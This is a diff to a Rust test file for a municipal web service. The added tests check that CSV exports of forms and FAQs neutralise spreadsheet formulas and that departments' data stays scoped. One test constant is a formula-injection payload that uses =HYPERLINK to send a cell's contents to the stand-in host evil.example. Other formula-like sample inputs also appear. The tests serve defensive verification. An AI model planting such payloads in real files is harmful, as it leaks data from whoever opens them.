@@ -1,14 +1,22 @@
 //! Issue 14 ("Trust"), over HTTP on SQLite and PostgreSQL: one department cannot take over another's form or
-//! read its past submissions (hole 3), and an issuance batch page shows nothing to staff of another
-//! department (hole 14).
+//! read its past submissions (hole 3); no CSV the service writes carries a formula (hole 8); and an issuance
+//! batch page shows nothing to staff of another department (hole 14).
 
 mod common;
 
 use common::{TestApp, csrf_of, login_with};
 use madoguchi_kernel::staff::{Role, insert_staff};
+use reqwest::multipart::{Form, Part};
+use serde_json::json;
 
 const PREF: &str = "390003";
+const CITY: &str = "392014";
 const ROAD_DAMAGE: &str = include_str!("../demo/forms/road-damage.json");
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+
+fn enc(s: &str) -> String {
+    percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string()
+}
 
 async fn department_id(app: &TestApp, tenant_code: &str, code: &str) -> i64 {
     sqlx::query_scalar(
@@ -130,9 +138,35 @@ async fn form_row(app: &TestApp, slug: &str) -> (i64, i64, i64) {
         .unwrap()
 }
 
+/// Rows of a CSV body (after a BOM).
+fn csv_rows(body: &str) -> Vec<Vec<String>> {
+    let body = body.trim_start_matches('\u{feff}');
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(body.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
+}
+
+/// No cell of a CSV starts as a spreadsheet formula would.
+fn assert_no_formula(body: &str) {
+    for row in csv_rows(body) {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "formula cell {cell:?}"
+            );
+        }
+    }
+}
+
 both!(
     another_departments_editor_cannot_take_over_a_form_by_its_slug,
     a_moved_form_does_not_carry_its_past_submissions_to_the_new_department,
+    form_export_neutralises_formulas_in_labels_and_keeps_full_width_text,
+    faq_log_and_export_neutralise_formulas_even_from_the_shared_pool,
     issuance_batch_pages_are_scoped_by_department,
 );
 
@@ -202,6 +236,167 @@ async fn a_moved_form_does_not_carry_its_past_submissions_to_the_new_department(
     // The administrator, who may read both departments, still sees it.
     let (_, csv) = text_of(&admin, app, &export).await;
     assert!(csv.contains("R-DORO-PAST-1"), "{csv}");
+}
+
+async fn form_export_neutralises_formulas_in_labels_and_keeps_full_width_text(app: &TestApp) {
+    let def = json!({
+        "title": "ラベル確認",
+        "department": "kikaku",
+        "contact": {"name": "デジタル政策課", "email": "digital@example.jp"},
+        "parts": [
+            {"key": "a", "type": "text", "label": FORMULA},
+            {"key": "b", "type": "text", "label": "＝全角で始まる見出し"},
+            {"key": "c", "type": "text", "label": "-マイナス"}
+        ]
+    });
+    let admin = demo_staff(app, "pref-admin").await;
+    let (status, page) = import_form(&admin, app, "label-check", &def.to_string()).await;
+    assert_eq!(status, 303, "{page}");
+    let (form_id, _, _) = form_row(app, "label-check").await;
+    past_submission(app, "label-check", "R-LABEL-1").await;
+    sqlx::query("UPDATE submissions SET answers = $1 WHERE receipt_number = 'R-LABEL-1'")
+        .bind(json!({"a": "@SUM(1+1)", "b": "＝ふつうの文", "c": "+81"}).to_string())
+        .execute(&app.ctx.db.write)
+        .await
+        .unwrap();
+    for path in [
+        format!("/staff/forms/{form_id}/export.csv"),
+        format!("/staff/forms/{form_id}/codebook.csv"),
+    ] {
+        let (status, body) = text_of(&admin, app, &path).await;
+        assert_eq!(status, 200, "{path}");
+        assert_no_formula(&body);
+        assert!(
+            body.contains(&format!("'{}", FORMULA.replace('"', "\"\""))),
+            "{body}"
+        );
+        assert!(body.contains("'-マイナス"), "{body}");
+        // Full-width ＝ is ordinary text to every spreadsheet: kept as it is.
+        assert!(body.contains(",＝全角で始まる見出し"), "{body}");
+    }
+    let (_, body) = text_of(&admin, app, &format!("/staff/forms/{form_id}/export.csv")).await;
+    let rows = csv_rows(&body);
+    let row = rows.iter().find(|r| r[0] == "R-LABEL-1").unwrap();
+    assert!(row.contains(&"'@SUM(1+1)".to_string()), "{row:?}");
+    assert!(row.contains(&"'+81".to_string()), "{row:?}");
+    assert!(row.contains(&"＝ふつうの文".to_string()), "{row:?}");
+}
+
+async fn faq_log_and_export_neutralise_formulas_even_from_the_shared_pool(app: &TestApp) {
+    // Anonymous residents ask.
+    for q in [
+        FORMULA,
+        "＝全角のイコールで始まる質問",
+        "@メンションのような質問",
+    ] {
+        let r = app
+            .client
+            .get(app.url(&format!("/api/v1/t/{CITY}/faq/ask?q={}", enc(q))))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status().as_u16(), 200);
+    }
+    let city = demo_staff(app, "kochi-city-admin").await;
+    let (status, log) = text_of(&city, app, "/staff/faq/log.csv").await;
+    assert_eq!(status, 200);
+    assert_no_formula(&log);
+    let questions: Vec<String> = csv_rows(&log).into_iter().map(|r| r[3].clone()).collect();
+    assert!(
+        questions.iter().any(|q| q.starts_with("'=HYPERLINK")),
+        "{log}"
+    );
+    assert!(questions.iter().any(|q| q.starts_with("'@")), "{log}");
+    assert!(
+        questions.iter().any(|q| q.starts_with("＝全角")),
+        "full-width kept: {log}"
+    );
+
+    // 高知市 writes a Q&A whose question and answer start like formulas and shares it.
+    let question = format!("{FORMULA} 年金の手続");
+    let (status, page) = post_form(
+        &city,
+        app,
+        "/staff/faq/new",
+        "/staff/faq/new",
+        &[
+            ("department", "shimin"),
+            ("category", "国民年金"),
+            ("question", question.as_str()),
+            ("phrasings", "-1+1"),
+            ("answer", "@SUM(1+1) 窓口でお尋ねください。"),
+            ("audience", "public"),
+        ],
+    )
+    .await;
+    assert_eq!(status, 303, "{page}");
+    let entry: i64 = sqlx::query_scalar("SELECT id FROM faq_entries WHERE question = $1")
+        .bind(&question)
+        .fetch_one(&app.ctx.db.read)
+        .await
+        .unwrap();
+    let (status, page) = post_form(
+        &city,
+        app,
+        &format!("/staff/faq/entries/{entry}"),
+        &format!("/staff/faq/entries/{entry}/publish"),
+        &[],
+    )
+    .await;
+    assert_eq!(status, 303, "{page}");
+    // 高知県 adopts it from the shared pool and exports its Q&As.
+    let pref = demo_staff(app, "pref-admin").await;
+    let (status, _) = post_form(
+        &pref,
+        app,
+        "/staff/faq/shared",
+        "/staff/faq/shared/subscriptions",
+        &[("category", "国民年金")],
+    )
+    .await;
+    assert_eq!(status, 303);
+    let shared: i64 = sqlx::query_scalar("SELECT id FROM faq_shared WHERE source_entry_id = $1")
+        .bind(entry)
+        .fetch_one(&app.ctx.db.read)
+        .await
+        .unwrap();
+    let (status, page) = post_form(
+        &pref,
+        app,
+        "/staff/faq/shared",
+        &format!("/staff/faq/shared/{shared}/adopt"),
+        &[("department", "kikaku")],
+    )
+    .await;
+    assert_eq!(status, 303, "{page}");
+    let (status, export) = text_of(&pref, app, "/staff/faq/export.csv").await;
+    assert_eq!(status, 200);
+    assert_no_formula(&export);
+    assert!(export.contains("'=HYPERLINK"), "{export}");
+    assert!(export.contains("'@SUM(1+1)"), "{export}");
+    // Re-importing the export restores the text: nothing changes, no version is added.
+    let versions = app.scalar("SELECT COUNT(*) FROM faq_entry_versions").await;
+    let (_, page) = text_of(&pref, app, "/staff/faq/import").await;
+    let form = Form::new().text("_csrf", csrf_of(&page)).part(
+        "file",
+        Part::bytes(export.into_bytes())
+            .file_name("faq.csv")
+            .mime_str("text/csv")
+            .unwrap(),
+    );
+    let r = pref
+        .post(app.url("/staff/faq/import"))
+        .multipart(form)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 200);
+    let page = r.text().await.unwrap();
+    assert!(page.contains("追加 0件、更新 0件"), "{page}");
+    assert_eq!(
+        app.scalar("SELECT COUNT(*) FROM faq_entry_versions").await,
+        versions
+    );
 }
 
 async fn issuance_batch_pages_are_scoped_by_department(app: &TestApp) {
